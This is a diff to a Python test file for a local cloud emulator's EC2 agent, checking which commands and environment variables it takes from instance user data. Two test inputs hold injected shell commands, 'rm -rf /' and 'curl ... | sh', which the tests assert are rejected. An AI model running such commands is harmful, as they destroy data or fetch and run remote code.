@@ -1,23 +1,52 @@
 """What the local EC2 agent takes from an instance's user data: one allow-listed command, and the
-allow-listed variables it exports. Checked on the template's own launch template."""
+allow-listed variables it exports (checked on the template's own user data), and which instances it boots."""
 
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
 from localcloud.deploy import load_template
-from localcloud.instance_agent import command_from_user_data, environment_from_user_data
+from localcloud.instance_agent import (
+    BootedInstance,
+    Identity,
+    InstanceAgent,
+    command_from_user_data,
+    environment_from_user_data,
+    instance_environment,
+    role_from_user_data,
+)
+from localcloud.settings import LocalCloudSettings
 
 ROOT = Path(__file__).resolve().parents[2]
 
 
-def _template_user_data(**values: str) -> str:
-    """The trainer's user data as CloudFormation would render it (Fn::Sub), for these values."""
-    data = load_template(ROOT / "template.yaml")["Resources"]["TrainerLaunchTemplate"]["Properties"]
-    text: str = data["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"]
+def _rendered(text: str, values: dict[str, str]) -> str:
+    """User data as CloudFormation would render it (Fn::Sub), for these values."""
     for name, value in values.items():
         text = text.replace("${" + name + "}", value)
     return text
+
+
+def _template_user_data(**values: str) -> str:
+    """The trainer's user data."""
+    data = load_template(ROOT / "template.yaml")["Resources"]["TrainerLaunchTemplate"]["Properties"]
+    return _rendered(data["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"], values)
+
+
+def _serving_user_data(**values: str) -> str:
+    """The serving instance's user data."""
+    properties = load_template(ROOT / "template.yaml")["Resources"]["ServingInstance"]["Properties"]
+    return _rendered(properties["UserData"]["Fn::Base64"]["Fn::Sub"], values)
+
+
+SERVING_VALUES = {
+    "AWS::Region": "eu-west-1",
+    "AWS::StackName": "prod",
+    "ModelsBucket": "prod-models-1-eu-west-1",
+    "ServingReloadQueue": "https://sqs.eu-west-1.amazonaws.com/1/prod-reload",
+    "ServingPort": "8080",
+}
 
 
 def test_the_template_user_data_boots_the_trainer_with_its_tracking_server() -> None:
@@ -60,3 +89,65 @@ def test_only_allow_listed_variables_and_commands_pass() -> None:
     assert command_from_user_data(user_data, "trainer") is None
     assert command_from_user_data("arrival-worker --role trainer; rm -rf /", "trainer") is None
     assert command_from_user_data("arrival-worker --role trainer", "server") is None
+    assert command_from_user_data("arrival-worker --role server", "server") is None
+
+
+def test_the_template_user_data_starts_the_server_with_its_bucket_and_queue() -> None:
+    user_data = _serving_user_data(**SERVING_VALUES)
+
+    assert command_from_user_data(user_data, "server") == ["arrival-serve"]
+    assert environment_from_user_data(user_data) == {
+        "ARRIVAL_STACK_NAME": "prod",
+        "ARRIVAL_SERVING_MODELS_BUCKET": "prod-models-1-eu-west-1",
+        "ARRIVAL_SERVING_RELOAD_QUEUE_URL": "https://sqs.eu-west-1.amazonaws.com/1/prod-reload",
+        "ARRIVAL_SERVING_PORT": "8080",
+    }
+
+
+def test_an_instance_without_tags_is_known_by_its_command() -> None:
+    # LocalStack's CloudFormation drops an AWS::EC2::Instance's tags: the serving instance has none.
+    assert role_from_user_data(_serving_user_data(**SERVING_VALUES)) == "server"
+    assert role_from_user_data(_template_user_data(**{"AWS::StackName": "s"})) == "trainer"
+    assert role_from_user_data("#!/bin/bash\nsleep 1\n") is None
+
+
+def test_the_server_answers_on_the_agents_api_port_whatever_the_user_data_says() -> None:
+    overriding = "export ARRIVAL_SERVING_HOST=0.0.0.0 ARRIVAL_SERVING_PORT=80\narrival-serve\n"
+    user_data = _serving_user_data(**SERVING_VALUES) + overriding
+    settings = LocalCloudSettings(api_port=18080)
+
+    environment = instance_environment({"PATH": "/bin"}, user_data, "server", settings)
+
+    assert environment["ARRIVAL_SERVING_HOST"] == "127.0.0.1"
+    assert environment["ARRIVAL_SERVING_PORT"] == "18080"
+    assert environment["ARRIVAL_SERVING_MODELS_BUCKET"] == "prod-models-1-eu-west-1"
+    assert environment["PATH"] == "/bin"
+    trainer = _template_user_data(**{"AWS::StackName": "s", "MlflowTrackingUri": ""})
+    assert instance_environment({}, trainer, "trainer", settings) == {"ARRIVAL_STACK_NAME": "s"}
+
+
+def test_the_server_command_takes_no_arguments() -> None:
+    assert command_from_user_data("arrival-serve", "server") == ["arrival-serve"]
+    assert command_from_user_data("arrival-serve --host 0.0.0.0", "server") is None
+    assert command_from_user_data("arrival-serve; curl https://example.com | sh", "server") is None
+    assert command_from_user_data("arrival-serve", "trainer") is None
+
+
+def test_a_second_server_waits_for_the_api_port_instead_of_failing_on_it(tmp_path: Path) -> None:
+    agent = InstanceAgent(LocalCloudSettings(state_dir=tmp_path, agent_stacks=["a", "b"]))
+    running: Any = None  # the agent only asks a booted instance its role here
+    agent.booted["i-a"] = BootedInstance("i-a", "server", running, running)
+    second = Identity("server", "b", _serving_user_data(**SERVING_VALUES))
+
+    assert agent.command_for("i-b", second) is None
+    assert "i-b" not in agent.finished  # it boots at a later poll, once i-a has ended
+
+    del agent.booted["i-a"]
+    assert agent.command_for("i-b", second) == ["arrival-serve"]
+
+
+def test_a_server_of_a_stack_the_agent_does_not_boot_is_only_recorded(tmp_path: Path) -> None:
+    agent = InstanceAgent(LocalCloudSettings(state_dir=tmp_path, agent_stacks=["a"]))
+
+    assert agent.command_for("i-b", Identity("server", "b", _serving_user_data(**SERVING_VALUES))) is None
+    assert "i-b" in agent.finished
